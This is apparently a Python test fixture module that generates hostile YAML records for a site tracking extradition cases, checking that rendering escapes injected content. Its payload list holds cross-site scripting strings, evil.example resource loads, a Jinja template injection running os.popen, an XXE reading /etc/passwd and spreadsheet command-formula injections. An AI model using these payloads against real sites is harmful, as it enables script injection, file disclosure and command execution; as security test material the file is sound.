"""Hostile input for tests: cross-site-scripting and injection payloads, records that
carry them in every text field the schema defines, and resource bombs.

Every payload that would create an element gives it an id starting with ``x-pwned``,
and every one that would run script calls ``alert``, so a test can look for both in
the built site. Template payloads compute numbers that appear nowhere else
(``7*1337`` is 9359), so an evaluated template is visible too.
"""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

from tests.conftest import ROOT

SCHEMA = json.loads((ROOT / "precedents" / "schema.json").read_text(encoding="utf-8"))
LS, PS = "\u2028", "\u2029"  # unicode line and paragraph separators (line ends in JavaScript)

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script><!--<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # event handlers
    "<img id=x-pwned src=x onerror=alert(1)>",
    "<IMG ID=x-pwned SRC=x OnErRoR=alert(1)>",
    "<img id=x-pwned src=x onerror=&#97;lert(1)>",
    "<img/id=x-pwned/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details id=x-pwned open ontoggle=alert(1)>",
    "<input id=x-pwned autofocus onfocus=alert(1)>",
    "<video id=x-pwned><source onerror=alert(1)></video>",
    "<marquee id=x-pwned onstart=alert(1)>x</marquee>",
    "<x id=x-pwned onclick=alert(1)>click me",
    '<div id=x-pwned style="background:url(javascript:alert(1))">x</div>',
    # attribute breaking quotes
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    '"><img id=x-pwned src=x onerror=alert(1)>',
    "'><img id=x-pwned src=x onerror=alert(1)>",
    "`><img id=x-pwned src=x onerror=alert(1)>",
    # URLs in HTML: javascript:, data:, vbscript:, obfuscated by entities and case
    '<a id=x-pwned href="javascript:alert(1)">click</a>',
    '<a id=x-pwned href="JaVaScRiPt:alert(1)">click</a>',
    '<a id=x-pwned href="&#106;avascript:alert(1)">click</a>',
    '<a id=x-pwned href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
    '<a id=x-pwned href="jav&#x09;ascript:alert(1)">click</a>',
    '<a id=x-pwned href=" javascript:alert(1)">click</a>',
    '<a id=x-pwned href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a id=x-pwned href="vbscript:msgbox(1)">click</a>',
    '<form id=x-pwned action="javascript:alert(1)"><button>go</button></form>',
    '<button id=x-pwned formaction="javascript:alert(1)">go</button>',
    '<iframe id=x-pwned src="javascript:alert(1)"></iframe>',
    '<iframe id=x-pwned srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object id=x-pwned data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed id=x-pwned src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img id=x-pwned src=https://evil.example/pixel.png>",
    # SVG and MathML
    "<svg id=x-pwned onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a id=x-pwned xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img id=x-pwned src=x onerror=alert(1)>",
    '<math id=x-pwned href="javascript:alert(1)">click</math>',
    # parser confusion: comments, CDATA, raw-text elements, templates
    "<!--<img id=x-pwned src=x onerror=alert(1)>-->",
    "--><img id=x-pwned src=x onerror=alert(1)>",
    "<![CDATA[<img id=x-pwned src=x onerror=alert(1)>]]>",
    "</textarea><img id=x-pwned src=x onerror=alert(1)>",
    "</title><img id=x-pwned src=x onerror=alert(1)>",
    "</noscript><img id=x-pwned src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img id=x-pwned src=x onerror=alert(1)>">',
    "</style><img id=x-pwned src=x onerror=alert(1)>",
    "<template><img id=x-pwned src=x onerror=alert(1)></template>",
    "<select><noembed></select><img id=x-pwned src=x onerror=alert(1)>",
    # escaped forms that must stay text (no double decoding)
    "&lt;img id=x-pwned src=x onerror=alert(1)&gt;",
    "&#60;img id=x-pwned src=x onerror=alert(1)&#62;",
    "%3Cimg id=x-pwned src=x onerror=alert(1)%3E",
    "\\x3cimg id=x-pwned src=x onerror=alert(1)\\x3e",
    "\\u003cimg id=x-pwned src=x onerror=alert(1)\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # unicode line separators and direction overrides
    f"line{LS}<img id=x-pwned src=x onerror=alert(1)>{PS}end",
    f"{LS}</script><script>alert(1)</script>{PS}",
    "\u202e<img id=x-pwned src=x onerror=alert(1)>\u202c",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/x)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    '[click](https://example.org/" onclick="alert(1))',
    '[click](https://example.org/ "t\\" onmouseover=\\"alert(1)")',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "`<img id=x-pwned src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    # Markdown extensions of the site engine: attribute lists, md_in_html, admonitions,
    # footnotes, abbreviations, tables, definition lists
    '*emphasis*{: id=x-pwned onclick="alert(1)" }',
    'A paragraph\n{: id=x-pwned onclick="alert(1)" }',
    "# Heading {: #x-pwned onclick=alert(1) }",
    "Trailing list {: id=x-pwned onclick=alert(1) }",
    "{: id=x-pwned onclick=alert(1) }",
    "- item {: id=x-pwned onclick=alert(1) }\n- item",
    '<div markdown="1" id=x-pwned onclick=alert(1)>*x*</div>',
    '!!! note "<img id=x-pwned src=x onerror=alert(1)>"\n    text',
    "Text[^1]\n\n[^1]: <img id=x-pwned src=x onerror=alert(1)>",
    "*[HTML]: <img id=x-pwned src=x onerror=alert(1)>\nHTML",
    "| a | b |\n|---|---|\n| <img id=x-pwned src=x onerror=alert(1)> | x |",
    "Term\n: <img id=x-pwned src=x onerror=alert(1)>",
    # template injection (Jinja2, JavaScript template strings, Ruby, ERB)
    "{{ 7*7 }}",
    "{{ 7*'7' }}",
    "{{ 7*1337 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config }} {{ page.title }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{# unclosed comment",
    "${7*1337}",
    "#{7*1337}",
    "<%= 7*1337 %>",
    "${{ 7*1337 }}",
    # JSON, XML and CSV contexts
    '"}]}</script><script>alert(1)</script>',
    '\\";alert(1);//',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ']]><x id="x-pwned"/><![CDATA[',
    '=HYPERLINK("https://evil.example","click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# What a template payload would become if it were evaluated; none may appear on the site.
EVALUATED_TEMPLATE_MARKS = ["9359", "7777777", "looplooploop"]

# Front matter of a record: kept whatever the payload. Country, code and date fields stay
# valid; every prose and plain-text field is overwritten with the payload.
FULL_RECORD = {
    "id": None,  # set per record
    "kind": "public-record",
    "language": "en",
    "title": None,
    "summary": None,
    "headnote": None,
    "requesting_states": ["RU"],
    "host_states": ["ES"],
    "states_note": None,
    "person": {
        "name": None,
        "description": None,
        "nationality": ["RU"],
        "status_at_home": "accused",
        "profiles": ["journalist"],
        "protection": [{"status": "refugee", "by": "UNHCR", "date": "2018", "note": None}],
    },
    "detention": {
        "detained": "yes",
        "periods": [
            {"start": "2019-07-19/2019-07-20", "end": "2020", "state": "ES", "place": None, "basis": "remand", "note": None},
            {"start": "2020", "duration": "P7M", "approximate": True, "basis": "house-arrest"},
        ],
        "note": None,
    },
    "instruments": [
        {
            "type": "red-notice",
            "type_certain": False,
            "type_note": None,
            "issued_by": None,
            "issued": "2019",
            "claimed": None,
            "fate": "deleted",
            "fate_date": "2020",
            "note": None,
        },
        {"type": "diffusion", "fate": "published", "note": None},
    ],
    "proceedings": [
        {
            "forum": "national-court",
            "state": "ES",
            "body": None,
            "kind": "extradition",
            "description": None,
            "filed": "2019",
            "decided": "2020",
            "outcome": "extradition-refused",
            "measures": [{"kind": "remand", "ordered": "2019", "term": "P60D", "note": None}],
            "grounds": [
                {"code": "political-persecution", "status": "relied-on", "note": None},
                {"code": "fair-trial-risk", "status": "contested", "note": None},
            ],
            "identifiers": [{"scheme": "case-number", "value": None}],
        }
    ],
    "timeline": [
        {"date": "2019", "date_qualifier": "about", "when": None, "event": None},
        {"when": None, "event": None},
    ],
    "outcomes": ["extradition-refused"],
    "outcome_summary": None,
    "onward_moves": [{"kind": "resettled", "state": "US", "date": "2021", "note": None}],
    "misuse_patterns": ["critic-targeted"],
    "lessons": [{"text": None, "recommendations": ["travel-risk"]}],
    "related": [{"id": None, "note": None}],
    "sources": [
        {
            "kind": "news-report",
            "title": None,
            "publisher": None,
            "author": None,
            "date": "2020",
            "date_note": None,
            "url": None,
            "partisan": False,
            "language": "en",
            "identifiers": [{"scheme": "case-number", "value": None}],
        },
        {"kind": "court-decision", "title": None, "citation": None},
    ],
    "sourcing": {"strength": "weak", "note": None},
    "unconfirmed": [None, None],
    "review": {"status": "draft", "note": None},
}


# --- the text fields of the schema -----------------------------------------------------


def _resolve(node: dict) -> tuple[dict, str | None]:
    ref = node.get("$ref", "")
    if ref.startswith("#/$defs/"):
        name = ref.removeprefix("#/$defs/")
        return {**SCHEMA["$defs"][name], **{k: v for k, v in node.items() if k != "$ref"}}, name
    return node, None


def text_fields(schema: dict = SCHEMA) -> dict[str, dict]:
    """Every field a record can carry text in: {path: its schema}. Paths use ``[]`` for
    list items, e.g. ``instruments[].note``. A field counts when it is a ``$defs/text``
    reference or a string type without an enum (patterned ones included: they take a
    payload only where it fits their pattern)."""
    found: dict[str, dict] = {}

    def walk(node: dict, path: str) -> None:
        node, ref = _resolve(node)
        types = node.get("type")
        types = types if isinstance(types, list) else [types]
        if ref == "text" or ("string" in types and "enum" not in node):
            found[path] = {**node, "x-text": ref == "text"}
            return
        for name, child in node.get("properties", {}).items():
            walk(child, f"{path}.{name}" if path else name)
        if "items" in node:
            walk(node["items"], f"{path}[]")

    walk(schema, "")
    return found


def _fits(value: str, schema: dict) -> bool:
    if "pattern" in schema and not re.search(schema["pattern"], value):
        return False
    return schema.get("minLength", 0) <= len(value) <= schema.get("maxLength", 10**9)


def field_value(payload: str, schema: dict, as_map: bool):
    """The payload as this field can carry it, or None where it cannot (a code field)."""
    if schema["x-text"]:
        return {"en": payload, "ru": payload} if as_map else payload
    payload = payload.ljust(schema.get("minLength", 0), ".")  # '=1+1' is short for a title; still a formula
    if _fits(payload, schema):
        return payload
    as_url = "https://example.org/" + re.sub(r"\s", "", payload)  # a URL field: the payload in the path
    if _fits(as_url, schema):
        return as_url
    return None


def _containers(data, parts: list[str]):
    """The objects a path's last key belongs to, following ``[]`` through every item."""
    nodes = [data]
    for part in parts[:-1]:
        key, many = part.removesuffix("[]"), part.endswith("[]")
        nodes = [n[key] for n in nodes if isinstance(n, dict) and key in n]
        if many:
            nodes = [item for n in nodes for item in n]
    return nodes


def _set(data, path: str, value) -> int:
    parts = path.split(".")
    last = parts[-1]
    if last.endswith("[]"):  # a list of texts, e.g. unconfirmed[]
        key = last.removesuffix("[]")
        holders = [n for n in _containers(data, parts) if isinstance(n, dict) and key in n]
        for holder in holders:
            holder[key] = [copy.deepcopy(value) for _ in holder[key]]
        return len(holders)
    holders = [n for n in _containers(data, parts) if isinstance(n, dict)]
    for holder in holders:
        holder[last] = copy.deepcopy(value)  # a shared dict would be dumped as a YAML alias
    return len(holders)


def hostile_record(record_id: str, payload: str, related_id: str, as_map: bool = False) -> tuple[dict, list[str]]:
    """A valid record with ``payload`` in every text field; also the fields that took it."""
    data = copy.deepcopy(FULL_RECORD)
    data["id"] = record_id
    data["related"][0]["id"] = related_id
    used = []
    for path, schema in text_fields().items():
        value = field_value(payload, schema, as_map)
        if path in ("id", "related[].id", "aliases[]") or value is None:
            continue  # a code, date or identifier the payload does not fit: the valid value stays
        if _set(data, path, value) == 0:
            raise AssertionError(f"{path}: FULL_RECORD in tests/hostile.py has no place for this field; add it")
        used.append(path)
    left = [path for path, value in _leaves(data) if value is None]
    if left:
        raise AssertionError(f"payload {payload!r} left {left} empty; extend hostile.field_value")
    return data, used


def _leaves(value, path=""):
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _leaves(child, f"{path}.{key}" if path else key)
    elif isinstance(value, list):
        for child in value:
            yield from _leaves(child, f"{path}[]")
    else:
        yield path, value


def write_hostile_collection(folder: Path, payloads: list[str] = PAYLOADS) -> dict[str, str]:
    """One record per payload (text maps on every other one), related in a ring; {id: payload}."""
    import yaml

    folder.mkdir(parents=True, exist_ok=True)
    ids = [f"xx-2020-hostile-{n:03d}" for n in range(len(payloads))]
    for n, (record_id, payload) in enumerate(zip(ids, payloads, strict=True)):
        data, _ = hostile_record(record_id, payload, ids[(n + 1) % len(ids)], as_map=n % 2 == 1)
        text = "# yaml-language-server: $schema=schema.json\n" + yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
        (folder / f"{record_id}.yml").write_text(text, encoding="utf-8")
    return dict(zip(ids, payloads, strict=True))
